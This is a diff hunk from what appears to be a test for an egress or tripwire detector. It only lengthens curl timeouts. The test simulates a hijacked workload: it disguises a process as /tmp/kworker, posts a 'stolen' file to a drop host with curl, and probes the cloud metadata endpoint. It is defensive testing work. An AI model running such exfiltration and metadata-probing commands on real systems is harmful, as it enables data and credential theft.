@@ -35,8 +35,8 @@ egress:
     await host.start({ prefix: [...net.enter] })
     await host.settled(['mine'], ['running'])
     // Its usual work; then somebody makes it do something else.
-    await told(`curl -ksS -m 9 https://${API}/ >/dev/null; echo usual >/data/state`)
-    await told(`cp /bin/sleep /tmp/kworker; (exec /tmp/kworker 300 >/dev/null 2>&1 &); echo stolen >/data/.cache; curl -ksS -m 9 https://${DROP}/ -d @/data/.cache >/dev/null; getent hosts "$(echo $BACKUP_URL | cut -d/ -f3)"; curl -sS -m 3 http://169.254.169.254/ ; true`)
+    await told(`curl -ksS -m 30 https://${API}/ >/dev/null; echo usual >/data/state`)
+    await told(`cp /bin/sleep /tmp/kworker; (exec /tmp/kworker 300 >/dev/null 2>&1 &); echo stolen >/data/.cache; curl -ksS -m 30 https://${DROP}/ -d @/data/.cache >/dev/null; getent hosts "$(echo $BACKUP_URL | cut -d/ -f3)"; curl -sS -m 30 http://169.254.169.254/ ; true`)
     await host.recorded(({ type }) => type === 'tripwire.touched')
   })
   afterAll(async () => {
